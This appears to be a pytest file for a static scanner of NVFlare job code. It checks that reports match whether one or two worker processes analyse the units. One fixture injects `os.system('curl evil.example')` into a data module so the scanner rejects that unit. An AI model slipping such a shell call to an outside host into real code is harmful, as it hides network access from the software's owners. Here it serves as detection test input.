"""Session 42 (speedjobs42): a report does not depend on how many processes made it.

`scan --jobs 2` (the CLI's default on two cores) split a large unit's files between worker processes, each
analysing its share in a program of its own, while `--jobs 1` analysed them in order in one program. What a
module's analysis finds can depend on the analyses its program ran before it (NVFlare's examples as one unit:
five messages of advanced/amplify/job_multitask/client.py counted "(and 2 more)" sources in a worker, "(and 4
more)" after job_alltasks/client.py in the serial program). Now a unit is analysed whole by one process and
`--jobs` spreads units over processes.
"""

from __future__ import annotations

import json
from pathlib import Path

from conftest import run_cli

# The size above which a unit's files used to be split between workers.
OLD_SPLIT_BYTES = 1_500_000

CLIENT = '''import argparse
import os

import nvflare.client as flare
import torch

from model import Net
from data import loaders


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--data_dir", default="/tmp/data")
    parser.add_argument("--export_dir", default="")
    args = parser.parse_args()
    flare.init()
    net = Net()
    train, test = loaders(args.data_dir)
    while flare.is_running():
        model = flare.receive()
        net.load_state_dict(model.params)
        for x, y in train:
            loss = torch.nn.functional.cross_entropy(net(x), y)
            loss.backward()
        if args.export_dir:
            torch.save(net.state_dict(), os.path.join(args.export_dir, "net.pt"))
        flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": float(loss)}))


if __name__ == "__main__":
    main()
'''

MODEL = '''import torch


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(32, 10)

    def forward(self, x):
        return self.fc(x)
'''

DATA = '''import os

import pandas as pd
import torch


def loaders(data_dir):
    rows = pd.read_csv(os.path.join(data_dir, "site.csv"))
    print("rows", len(rows), rows.columns.tolist())
    x = torch.tensor(rows.drop(columns=["label"]).values, dtype=torch.float32)
    y = torch.tensor(rows["label"].values)
    return [(x, y)], [(x, y)]
'''


def _job(root: Path, name: str, padding_bytes: int = 0) -> Path:
    """An NVFlare Client API job of three modules; `padding_bytes` of docstring in a fourth make it large."""
    custom = root / name / "app" / "custom"
    custom.mkdir(parents=True)
    (custom / "client.py").write_text(CLIENT)
    (custom / "model.py").write_text(MODEL)
    (custom / "data.py").write_text(DATA)
    if padding_bytes:
        line = "The site's data sets: one row per sample, a label column and 32 features.\n"
        (custom / "datasets_doc.py").write_text('"""' + line * (padding_bytes // len(line) + 1) + '"""\n')
    return root / name


def _report(*args: str) -> dict:
    done = run_cli("scan", "--format", "json", "--no-cache", *args)
    assert done.returncode in (0, 1, 3), done.stderr
    return json.loads(done.stdout)


def test_a_large_unit_reports_the_same_under_jobs_1_and_jobs_2(tmp_path: Path) -> None:
    unit = _job(tmp_path, "job", OLD_SPLIT_BYTES)
    assert sum(p.stat().st_size for p in unit.rglob("*.py")) > OLD_SPLIT_BYTES
    serial = _report("--jobs", "1", str(unit))
    assert _report("--jobs", "2", str(unit)) == serial
    # data.py's statistic of the site's rows reaches client.py's flare.send: found across modules
    assert any(f["path"] == "app/custom/client.py" and "pandas.read_csv" in f["message"]
               for f in serial["reports"][0]["findings"]), serial["reports"][0]["findings"]


def test_several_units_over_two_workers_report_what_one_process_reports(tmp_path: Path) -> None:
    units = [str(_job(tmp_path, f"job{i}")) for i in range(4)]
    (tmp_path / "job2" / "app" / "custom" / "data.py").write_text(DATA + "\nos.system('curl evil.example')\n")
    serial = _report("--jobs", "1", *units)
    assert _report("--jobs", "2", *units) == serial
    assert [r["target"] for r in serial["reports"]] == units  # in the order given
    assert [r["decision"] for r in serial["reports"]].count("reject") == 1, [r["decision"] for r in serial["reports"]]
